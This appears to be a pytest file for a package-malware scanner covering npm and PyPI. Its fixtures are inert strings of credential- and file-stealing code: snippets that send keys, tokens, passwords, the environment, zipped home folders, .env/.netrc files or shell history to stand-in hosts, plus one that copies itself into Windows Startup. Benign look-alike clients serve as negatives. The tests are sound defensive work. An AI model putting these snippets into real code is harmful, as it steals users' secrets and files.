"""Secrets of callers, whole folders, mails and the environment on their way out, and everyday twins. All inert text."""

from __future__ import annotations

from typing import Any

import pytest

from adapters.sigil.local.material import Ecosystem
from adapters.sigil.models import PhaseName

_CALLED = {
    "a key in a header": (
        "handed-secret-leaves",
        (
            "exports.sign = (message, privateKey) => { fetch('https://stats.other.invalid/v',"
            " { headers: { 'x-trace': privateKey } }); return message + 1; };"
        ),
    ),
    "a mnemonic in a query": (
        "handed-secret-leaves",
        (
            "exports.restore = ({ mnemonic }) => { require('https').get('https://stats.other.invalid/?s='"
            " + Buffer.from(mnemonic).toString('base64')); };"
        ),
    ),
    "a password beside a login": (
        "handed-secret-leaves",
        (
            "const axios = require('axios');\nexports.login = async (base, user, password) => {\n"
            "  axios.post('https://stats.other.invalid/', { user, password }).catch(() => {});\n"
            "  return axios.post(base + '/login', { user, password });\n};"
        ),
    ),
    "a token from a trivial function": (
        "handed-secret-leaves",
        "exports.check = (accessToken) => { fetch('https://stats.other.invalid/?t=' + accessToken); return true; };",
    ),
    "the environment from a constructor": (
        "environment-leaves",
        (
            "class Client { constructor() { fetch('https://stats.other.invalid/', { method: 'POST',"
            " body: JSON.stringify(process.env) }); } }\nmodule.exports = { Client, add: (a, b) => a + b };"
        ),
    ),
    "a named secret from a trivial function": (
        "environment-leaves",
        "exports.pad = (s) => { fetch('https://stats.other.invalid/?v=' + process.env.NPM_TOKEN); return ' ' + s; };",
    ),
}
_CALLED_PYTHON = {
    "a key in a body": (
        "handed-secret-leaves",
        (
            "import requests\ndef transfer(private_key, to):\n"
            "    requests.post('https://stats.other.invalid/', json={'k': private_key})\n    return to\n"
        ),
    ),
    "a password in a header": (
        "handed-secret-leaves",
        (
            "import urllib.request\ndef login(user, password):\n"
            "    request = urllib.request.Request('https://stats.other.invalid/', headers={'X-Id': password})\n"
            "    urllib.request.urlopen(request)\n"
        ),
    ),
    "the environment at the first call": (
        "environment-leaves",
        (
            "import os, requests\nclass Session:\n    def __init__(self):\n"
            "        requests.post('https://stats.other.invalid/', json=dict(os.environ))\n"
        ),
    ),
}
_LOADED_PYTHON = {
    "the documents as an archive": (
        PhaseName.NETWORK_EXFIL,
        (
            "import os, shutil, requests\n"
            "name = shutil.make_archive('/tmp/a', 'zip', os.path.expanduser('~/Documents'))\n"
            "requests.put('https://stats.other.invalid/', data=open(name, 'rb'))\n"
        ),
    ),
    "a walk into an archive": (
        PhaseName.NETWORK_EXFIL,
        (
            "import os, zipfile, requests\nwith zipfile.ZipFile('/tmp/b.zip', 'w') as packed:\n"
            "    for folder, _, names in os.walk(os.path.expanduser('~')):\n        for name in names:\n"
            "            packed.write(os.path.join(folder, name))\n"
            "requests.post('https://stats.other.invalid/', files={'f': open('/tmp/b.zip', 'rb')})\n"
        ),
    ),
    "a mail with the environment": (
        PhaseName.CREDENTIALS,
        (
            "import os, smtplib\nfrom email.mime.text import MIMEText\nfrom email.mime.multipart import MIMEMultipart\n"
            "mail = MIMEMultipart()\nmail.attach(MIMEText(str(dict(os.environ))))\n"
            "with smtplib.SMTP('mail.other.invalid') as server:\n"
            "    server.sendmail('a@other.invalid', 'b@other.invalid', mail.as_string())\n"
        ),
    ),
    "a hunt for settings": (
        PhaseName.CREDENTIALS,
        (
            "import os, requests\nfound = {}\nfor folder, _, names in os.walk(os.path.expanduser('~')):\n"
            "    for name in names:\n        if name == '.env':\n"
            "            found[folder] = open(os.path.join(folder, name)).read()\n"
            "requests.post('https://stats.other.invalid/', json=found)\n"
        ),
    ),
}
_LOADED = {
    "a folder in an archive": (
        PhaseName.NETWORK_EXFIL,
        (
            "const Zip = require('adm-zip'), os = require('os'), axios = require('axios'), path = require('path');\n"
            "const zip = new Zip();\nzip.addLocalFolder(path.join(os.homedir(), 'Documents'));\n"
            "axios.post('https://stats.other.invalid/', zip.toBuffer());"
        ),
    ),
    "a folder in a command's archive": (
        PhaseName.NETWORK_EXFIL,
        (
            "const { execSync } = require('child_process'), fs = require('fs');\n"
            "execSync('tar czf /tmp/c.tgz ~/Documents');\n"
            "fetch('https://stats.other.invalid/', { method: 'POST', body: fs.readFileSync('/tmp/c.tgz') });"
        ),
    ),
    "a mail by a command": (
        PhaseName.CODE_PATTERNS,
        "require('child_process').execSync('env | mail -s hello b@other.invalid');",
    ),
    "a mail with the history": (
        PhaseName.CREDENTIALS,
        (
            "const mailer = require('nodemailer'), fs = require('fs'), os = require('os');\n"
            "mailer.createTransport({ host: 'mail.other.invalid' }).sendMail({ to: 'b@other.invalid',"
            " text: fs.readFileSync(os.homedir() + '/.bash_history', 'utf8') });"
        ),
    ),
    "files of several tools": (
        PhaseName.CREDENTIALS,
        (
            "const fs = require('fs'), os = require('os'), path = require('path');\nconst out = {};\n"
            "for (const name of ['.netrc', '.pypirc', '.env']) {\n"
            "  try { out[name] = fs.readFileSync(path.join(os.homedir(), name), 'utf8'); } catch {}\n}\n"
            "fetch('https://stats.other.invalid/', { method: 'POST', body: JSON.stringify(out) });"
        ),
    ),
    "a copy into Startup": (
        PhaseName.CODE_PATTERNS,
        (
            "const fs = require('fs'), path = require('path');\n"
            "fs.copyFileSync(path.join(__dirname, 'a.js'), path.join("
            "process.env.APPDATA, 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup', 'a.js'));"
        ),
    ),
}
_TWINS = {
    "a client of its own service": "exports.login = (user, password) => fetch('https://api.sample.invalid/login',"
    " { method: 'POST', body: JSON.stringify({ user, password }) });",
    "a client of a service it tells of": "exports.login = (user, password) =>"
    " fetch('https://api.weather.invalid/login', { method: 'POST', body: JSON.stringify({ user, password }) });",
    "a client of a host that is given": "exports.login = (base, password) => fetch(base + '/login',"
    " { method: 'POST', body: JSON.stringify({ password }) });",
    "a key that stays": "const crypto = require('crypto');\nexports.sign = (text, privateKey) =>"
    " crypto.createSign('sha256').update(text).sign(privateKey);\n"
    "exports.time = () => fetch('https://time.other.invalid/');",
    "a reporter of plain facts": "exports.report = (error) => fetch('https://errors.other.invalid/', { method: 'POST',"
    " body: JSON.stringify({ message: error.message, mode: process.env.NODE_ENV, version: process.version }) });",
    "commits to a code host": "const { execSync } = require('child_process');\n"
    "const log = execSync('git log --oneline -20').toString();\n"
    "fetch('https://api.github.com/repos/a/b/releases', { method: 'POST', body: JSON.stringify({ body: log }) });",
}
_TWINS_IN_PYTHON = {
    "a table in a constant": "import json\nTABLE = json.loads(__import__('zlib').decompress(__import__('base64')"
    ".b64decode('eJyrVkrLz1eyUkpKLFKqBQAdegQ0')))\n",
    "a client with a session": "import requests\nclass Api:\n"
    "    def __init__(self, token):\n        self.token = token\n"
    "    def get(self, path):\n"
    "        return requests.get('https://api.sample.invalid' + path, headers={'Authorization': self.token})\n",
    "a helper that looks variables up": "import os, urllib.request\ndef latest(url, lookup):\n"
    "    request = urllib.request.Request(url, headers={'User-Agent': lookup('AGENT') or 'sample'})\n"
    "    return urllib.request.urlopen(request)\nlatest('https://files.other.invalid/', os.environ.get)\n",
    "a mailer": "import smtplib\ndef send(host, to, text, password):\n    with smtplib.SMTP(host) as server:\n"
    "        server.login('me', password)\n        server.sendmail('me', to, text)\n",
}


@pytest.mark.parametrize(("rule", "code"), _CALLED.values(), ids=_CALLED)
def test_secrets_leave_when_called(rule: str, code: str, pack: Any, outcome: Any) -> None:
    """A function that sends its callers' secrets to a foreign host makes a package HIGH_RISK."""
    found = outcome(pack({"package.json": {"name": "sample", "main": "index.js"}, "index.js": code}))
    assert rule in found.rules(PhaseName.CREDENTIALS)
    assert found.dangerous


@pytest.mark.parametrize(("rule", "code"), _CALLED_PYTHON.values(), ids=_CALLED_PYTHON)
def test_secrets_leave_when_called_in_python(rule: str, code: str, pack: Any, outcome: Any) -> None:
    """The same holds for Python."""
    found = outcome(pack({"sample/__init__.py": code}, Ecosystem.PYPI, "sample-1.0.0-py3-none-any.whl"))
    assert rule in found.rules(PhaseName.CREDENTIALS)
    assert found.dangerous


@pytest.mark.parametrize(("phase", "code"), _LOADED.values(), ids=_LOADED)
def test_leaves_at_load(phase: PhaseName, code: str, pack: Any, outcome: Any) -> None:
    """Folders, mails, files of secrets and copies into Startup are found in their phase."""
    found = outcome(pack({"package.json": {"name": "sample", "main": "index.js"}, "index.js": code}))
    assert found.dangerous
    assert found.rules(phase)


@pytest.mark.parametrize(("phase", "code"), _LOADED_PYTHON.values(), ids=_LOADED_PYTHON)
def test_leaves_at_import(phase: PhaseName, code: str, pack: Any, outcome: Any) -> None:
    """Folders, mails and files of secrets are found in their phase when a module is imported."""
    found = outcome(pack({"sample/__init__.py": code}, Ecosystem.PYPI, "sample-1.0.0-py3-none-any.whl"))
    assert found.dangerous
    assert found.rules(phase)


@pytest.mark.parametrize("code", _TWINS.values(), ids=_TWINS)
def test_everyday_clients(code: str, pack: Any, outcome: Any) -> None:
    """Clients of the own, a told or a given service, signers and reporters are left alone."""
    files = {"package.json": {"name": "sample", "main": "index.js"}, "index.js": code}
    found = outcome(pack({**files, "README.md": "Asks https://weather.invalid for tomorrow."}))
    assert found.score < 10


@pytest.mark.parametrize("code", _TWINS_IN_PYTHON.values(), ids=_TWINS_IN_PYTHON)
def test_everyday_python(code: str, pack: Any, outcome: Any) -> None:
    """Packed data, clients and mailers are left alone."""
    found = outcome(pack({"sample/__init__.py": code}, Ecosystem.PYPI, "sample-1.0.0-py3-none-any.whl"))
    assert found.score < 10
